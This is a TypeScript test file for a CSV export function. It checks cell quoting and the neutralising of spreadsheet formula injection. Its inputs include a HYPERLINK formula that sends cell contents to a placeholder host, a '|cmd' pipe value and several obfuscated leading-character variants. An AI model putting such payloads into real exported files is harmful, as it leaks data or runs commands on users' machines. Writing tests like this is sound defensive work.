import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { csvText } from './csv.ts'

const cellOf = (text: string) => csvText([text], []).slice(1, -2)

describe('csvText', () => {
  it('writes every cell in quotes, as RFC 4180 has it', () => {
    assert.equal(
      csvText(['Name', 'Tags'], [['web "1"', 'a,b\nc']]),
      '\u{feff}"Name","Tags"\r\n"web ""1""","a,b\nc"\r\n',
    )
  })

  for (const text of [
    '=HYPERLINK("http://x/?"&A1)',
    '+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '  =1',
    '\u{200b}=1',
    '|cmd',
    '＝1',
  ]) {
    it(`writes ${JSON.stringify(text)} as text (a spreadsheet would run it)`, () => {
      assert.ok(cellOf(text).startsWith(`"'`), cellOf(text))
    })
  }

  it('leaves everything else as it is', () => {
    assert.equal(cellOf('10.0.0.7'), '"10.0.0.7"')
    assert.equal(cellOf('a=b'), '"a=b"')
  })
})
